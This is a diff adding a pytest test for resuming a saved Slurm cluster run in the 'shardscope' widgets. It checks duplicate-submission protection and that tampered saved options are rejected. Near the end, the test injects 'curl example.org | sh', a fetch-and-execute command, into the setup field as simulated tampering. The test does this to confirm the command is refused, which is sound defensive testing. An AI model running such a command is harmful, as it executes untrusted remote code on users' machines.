@@ -17,8 +17,10 @@ from written_runs import CREATED, write_failure, write_run
 
 import shardscope as ss
 from shardscope.records.folder import RunFolder
-from shardscope.records.json_files import append_line, read_lines
+from shardscope.records.json_files import append_line, read_json, read_lines, write_json
+from shardscope.runs.backends.target_record import record_target
 from shardscope.runs.launch import launch as launch_module
+from shardscope.runs.resume import why_not_resumable
 from shardscope.runs.summaries import RunSummaries
 from shardscope_widgets import Studio
 from shardscope_widgets.run import runs_view as runs_view_module
@@ -307,6 +309,43 @@ def test_resume_launches_and_shows_the_new_run(views: list[Any], monkeypatch: py
     assert not view.is_list_shown and view.run_view.run is resumed[0]
     view.show_list()
     assert "continues saved" in read_rows(view)[0] and "22 of 40" in read_rows(view)[0]
+
+
+def test_resume_submits_a_clusters_run_to_the_same_target(
+    views: list[Any], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    path = write_run("saved", "stopped", checkpoint=20)
+    target = ss.Slurm(partition="a100", time="2:00:00", setup=["module load cuda"])
+    description = read_json(path / "run.json") or {}
+    on = record_target(target, description["created"])
+    more = {"scheduler": "slurm", "num_nodes": 1, "retries": 2, "outlive_kernel": True, "on": on}
+    write_json(path / "run.json", {**description, **more}, as_is=("machine",))
+    (path / "nodes").mkdir()
+    write_json(path / "job.json", {"job_id": "7", "partition": "a100"})
+    launched: list[dict[str, Any]] = []
+    answers = threading.Event()
+
+    def launch(plan: Any, task: ss.Pretrain, **options: Any) -> ss.Run:
+        answers.wait(20)
+        launched.append(options)
+        return ss.Run.attach(write_run("saved-2", "running", number=5, task=task, num_done=22))
+
+    monkeypatch.setattr(launch_module, "launch", launch)
+    # A run of this machine that is active does not compete with it.
+    view = RunsView(is_busy=lambda: True)
+    views.append(view)
+    press(view, "resume", "saved")
+    assert "being submitted" in view.toolbar.value and view.is_list_shown
+    press(view, "resume", "saved")  # A second click submits no second job.
+    answers.set()
+    assert wait_until(lambda: not view.is_list_shown)
+    (options,) = launched
+    assert options["on"] == target and options["retries"] == 2 and options["outlive_kernel"] is True
+    # Options that another user has changed are not executed.
+    changed = read_json(path / "run.json") or {}
+    changed["on"]["fields"]["setup"] = ["curl example.org | sh"]  # type: ignore[index]
+    write_json(path / "run.json", changed, as_is=("machine",))
+    assert "not those of a launch of yours" in str(why_not_resumable(ss.Run.attach(path)))
 
 
 def find_resume_button(view: RunsView, name: str) -> str:
